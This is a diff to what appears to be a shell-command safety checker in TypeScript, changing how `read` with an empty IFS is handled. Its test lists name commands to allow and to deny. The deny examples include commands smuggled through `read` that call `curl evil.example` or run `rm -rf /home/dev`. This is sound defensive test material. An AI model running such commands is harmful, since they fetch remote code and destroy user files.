@@ -177,7 +177,8 @@ function names(words: readonly Word[]): string[] {
 function readLine(call: Call, p: ReturnType<typeof parse>, set: string[], array: string | undefined): Answer['reads'] {
   const text = call.stdin?.kind === 'static' ? call.stdin.text : undefined;
   const ifs = ifsOf(call);
-  if (text === undefined || ifs === undefined || ifs === '' || p.operands.length !== set.length - (array ? 1 : 0)) return undefined;
+  // (An empty IFS splits nothing: the first name gets the whole line, as `IFS= read -r line` is written to.)
+  if (text === undefined || ifs === undefined || p.operands.length !== set.length - (array ? 1 : 0)) return undefined;
   if (p.options.some((o) => !'ersadp'.includes(o.name) || o.unknown) || (array !== undefined && (p.operands.length > 0 || !NAME.test(array)))) return undefined;
   const delim = p.options.find((o) => o.name === 'd');
   const d = delim ? (delim.value ? value(delim.value) : undefined) : '\n';
@@ -406,8 +407,8 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     examples: {
       // Into a prompt, or into an integer (arithmetic) variable, what is read is evaluated; a name's subscript is arithmetic.
       // From its own static input, what it sets is known; read again from input a group or loop hands on, it is not.
-      deny: ["read PS4 <<< '$(curl evil.example)'; set -x; true", 'read -r PROMPT_COMMAND', 'declare -i n; read n', "x='a[$(curl evil.example)]'; read 'a[x]' <<< 1", "read -ra a <<< '-rf /home/dev'; rm \"${a[@]}\"", "read -r x y <<< '-rf /home/dev'; rm $x $y", "IFS=, read -ra a <<< '-rf,/home/dev'; rm \"${a[@]}\"", "while read -r l; do $l evil.example; done <<< $'ls\\ncurl'"],
-      pass: ['read -r name', 'read -p "Continue? " ok', "read -r line <<< 'a[$(x)]'", "read 'a[1]' <<< 1", "read -ra a <<< '-rf dist'; rm \"${a[@]}\"", "read -r x y <<< '-rf dist'; rm $x $y", "IFS=, read -ra a <<< '-rf,dist'; rm \"${a[@]}\""],
+      deny: ["read PS4 <<< '$(curl evil.example)'; set -x; true", 'read -r PROMPT_COMMAND', 'declare -i n; read n', "x='a[$(curl evil.example)]'; read 'a[x]' <<< 1", "read -ra a <<< '-rf /home/dev'; rm \"${a[@]}\"", "read -r x y <<< '-rf /home/dev'; rm $x $y", "IFS=, read -ra a <<< '-rf,/home/dev'; rm \"${a[@]}\"", "while read -r l; do $l evil.example; done <<< $'ls\\ncurl'", "IFS= read -r c <<< curl; $c evil.example"],
+      pass: ['read -r name', "IFS= read -r c <<< ls; $c -la", 'read -p "Continue? " ok', "read -r line <<< 'a[$(x)]'", "read 'a[1]' <<< 1", "read -ra a <<< '-rf dist'; rm \"${a[@]}\"", "read -r x y <<< '-rf dist'; rm $x $y", "IFS=, read -ra a <<< '-rf,dist'; rm \"${a[@]}\""],
     },
   },
   {
